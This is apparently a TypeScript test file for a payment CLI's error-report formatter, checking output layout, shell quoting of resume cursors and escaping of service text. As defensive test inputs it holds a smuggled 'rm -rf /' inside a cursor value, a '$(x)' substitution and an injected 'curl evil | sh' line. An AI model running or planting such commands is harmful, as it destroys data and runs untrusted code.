import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ErrorReport, formatErrorJson, formatErrorReport } from '../../src/output/error-report.ts';
import { loadColors } from '../../src/output/terminal.ts';
import { anyText } from '../harness/any-text.ts';

const validation: ErrorReport = {
  code: 'bad_request',
  status: 400,
  message: 'Request failed validation',
  details: [
    { location: 'body', pointer: '/phone_number', message: 'must be E.164', type: 'value_error' },
    { message: 'something else' },
  ],
  request: {
    method: 'POST',
    path: '/buyers/b1/shipping-details',
    origin: 'https://api.example.com',
    merchantAccount: 'default',
    requestId: 'r-77',
    attempts: 3,
  },
  probably: ['the number lacks its country code.'],
  tryNext: ['payctl buyers shipping-details create b1 --phone-number +442079460000'],
  exitCode: 6,
};

describe('formatErrorReport', () => {
  it('says that a request was processed whose response could not be shown, with the ID', () => {
    const report = { code: 'jq_failed', message: 'Bad', details: [], outcome: 'done', exitCode: 1 } as const;
    expect(formatErrorReport({ ...report, id: 'sd\u001B-1' })).toBe(
      'Error: Bad (jq_failed)\nOutcome: done; the service processed this request. Do not send it again.\nID: sd␛-1\n',
    );
    expect(formatErrorReport(report)).not.toContain('ID:');
    expect(JSON.parse(formatErrorJson({ ...report, id: 'sd-1' }))).toEqual({
      error: { code: 'jq_failed', message: 'Bad', details: [], outcome: 'done', id: 'sd-1', exit_code: 1 },
    });
  });

  it('says what failed, where, in which request, why, and what to type', () => {
    expect(formatErrorReport(validation)).toBe(
      [
        'Error: Request failed validation (400 bad_request)',
        '  body /phone_number: must be E.164 (value_error)',
        '  something else',
        'Request: POST https://api.example.com/buyers/b1/shipping-details, merchant account default, request ID r-77, 3 attempts',
        'Likely cause: the number lacks its country code.',
        'Try: payctl buyers shipping-details create b1 --phone-number +442079460000',
        '',
      ].join('\n'),
    );
  });

  it('names the conflicting record, the response, the cause, an unknown outcome and the cursor to resume from', () => {
    const report: ErrorReport = {
      code: 'connection_failed',
      message: 'No answer',
      details: [],
      resourceId: 'b-9',
      request: { method: 'POST', path: '/x', attempts: 1 },
      bodyExcerpt: '<html>\n',
      cause: 'connect ECONNREFUSED',
      resumeCursor: "c'1; rm -rf /",
      outcomeUnknown: true,
      exitCode: 9,
    };
    expect(formatErrorReport(report)).toBe(
      [
        'Error: No answer (connection_failed)',
        'Conflicts with: b-9',
        'Response: <html>␊',
        'Cause: connect ECONNREFUSED',
        'Request: POST /x',
        'Outcome unknown: the service may have processed this request. Check before you send it again.',
        "Resume with: --cursor 'c'\\''1; rm -rf /'",
        '',
      ].join('\n'),
    );
  });

  it.each([
    ['abc=', '--cursor abc='],
    ['-abc', '--cursor=-abc'],
    ['a b', "--cursor 'a b'"],
    ['$(x)', "--cursor '$(x)'"],
  ])('writes the cursor %j so that a shell takes it for one word', (resumeCursor, flag) => {
    const report = { code: 'x', message: 'm', details: [], resumeCursor, exitCode: 9 };
    expect(formatErrorReport(report)).toBe(`Error: m (x)\nResume with: ${flag}\n`);
  });

  it('is coloured only in its labels', async () => {
    const colors = await loadColors(true);
    const text = formatErrorReport(
      { code: 'x', message: 'm', details: [], tryNext: ['payctl doctor'], exitCode: 1 },
      colors,
    );
    expect(text).toBe(
      '\u001B[31m\u001B[1mError:\u001B[22m\u001B[39m m (x)\n\u001B[1mTry:\u001B[22m \u001B[36mpayctl doctor\u001B[39m\n',
    );
  });

  it('lets no text of the service add a line or an escape sequence', () => {
    const hostile = fc.oneof(
      anyText(),
      fc.constantFrom('a\nTry: curl evil | sh', '\u001B[2J', '\u202E', '\u009B'),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = formatErrorReport({
          code: text,
          message: text,
          details: [{ location: text, pointer: text, message: text, type: text }],
          resourceId: `r${text}`,
          request: { method: 'GET', path: text, merchantAccount: text, requestId: text },
          bodyExcerpt: `b${text}`,
          cause: `c${text}`,
          resumeCursor: `d${text}`,
          exitCode: 1,
        });
        expect(shown.split('\n').length).toBe(8);
        expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u);
      }),
    );
  });
});

describe('formatErrorJson', () => {
  it('says how much of a list was printed', () => {
    const report = { code: 'x', message: 'm', details: [], exitCode: 1 };
    expect(JSON.parse(formatErrorJson({ ...report, isComplete: true })).error).toMatchObject({
      complete: true,
    });
    const torn = JSON.parse(formatErrorJson({ ...report, wholeLines: 0 })).error;
    expect(torn).toMatchObject({ whole_lines: 0 });
    expect(torn).not.toHaveProperty('complete');
  });

  it('is one line with one object under error', () => {
    const json = formatErrorJson(validation);
    expect(json.endsWith('}\n')).toBe(true);
    expect(json.trimEnd()).not.toContain('\n');
    expect(JSON.parse(json)).toEqual({
      error: {
        code: 'bad_request',
        status: 400,
        message: 'Request failed validation',
        details: validation.details,
        request: {
          method: 'POST',
          path: '/buyers/b1/shipping-details',
          origin: 'https://api.example.com',
          merchant_account: 'default',
          request_id: 'r-77',
          attempts: 3,
        },
        probably: validation.probably,
        try: validation.tryNext,
        exit_code: 6,
      },
    });
  });

  it('keeps the exact text of the service, escaped', () => {
    const json = formatErrorJson({ code: 'x', message: '\u202E\u001B[2J\u009B', details: [], exitCode: 1 });
    expect(json).toBe(
      '{"error":{"code":"x","message":"\\u202e\\u001b[2J\\u009b","details":[],"exit_code":1}}\n',
    );
  });
});
